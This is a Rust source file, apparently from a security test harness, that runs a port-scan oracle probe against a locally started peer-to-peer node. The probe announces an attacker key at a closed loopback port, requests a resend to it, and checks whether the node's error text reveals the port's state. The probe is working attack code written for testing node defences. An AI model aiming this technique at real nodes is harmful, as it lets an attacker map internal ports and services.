//! The port-scan oracle: the attacker announces a key of its own at a URL of its choosing (a
//! closed loopback port), then asks for a resend to that key. A node that credits the key
//! without proof connects to that URL on request, and tells apart in its error whether the port
//! was open, closed or filtered.

use std::fmt;

use cloister_core::partyinfo::PartyInfo;
use cloister_harness::http::Request;
use cloister_harness::nodes::free_port;
use serde_json::json;

use super::{announce, Attacker, Victim, LEGACY_VERSIONS};

/// What the probe learnt.
#[derive(Debug, Clone)]
pub struct Scan {
    /// The status of the announcement of the attacker's key at a closed port.
    pub announce_status: u16,
    /// The status of the resend to that key.
    pub resend_status: u16,
    /// Whether the resend's answer says something about the port ("refused", "connect").
    pub resend_reveals_port: bool,
    /// Whether the node, restarted on its data, came back healthy.
    pub restart_healthy: bool,
}

/// Runs the probe.
pub fn run() -> anyhow::Result<Scan> {
    let mut victim = Victim::start(json!({}));
    let attacker = Attacker::start()?;
    let url = format!("http://127.0.0.1:{}/", free_port());
    let info = PartyInfo::new(&url, [(attacker.key(), url.clone())], []);
    let target = victim.dir.p2p_target();
    let announce_status =
        announce(&target, &info, LEGACY_VERSIONS, "application/octet-stream").status;
    let resend = Request::new("POST", "/resendBatch")
        .json(&json!({ "publicKey": attacker.key().to_base64(), "batchSize": 10 }))
        .send(&target);
    let text = resend.text().to_ascii_lowercase();
    Ok(Scan {
        announce_status,
        resend_status: resend.status,
        resend_reveals_port: text.contains("refused") || text.contains("connect"),
        restart_healthy: victim.restart_is_healthy(),
    })
}

impl fmt::Display for Scan {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "key announced at a closed port: {}; resend to it: {} (reveals the port: {}); restart healthy: {}",
            self.announce_status, self.resend_status, self.resend_reveals_port, self.restart_healthy
        )
    }
}
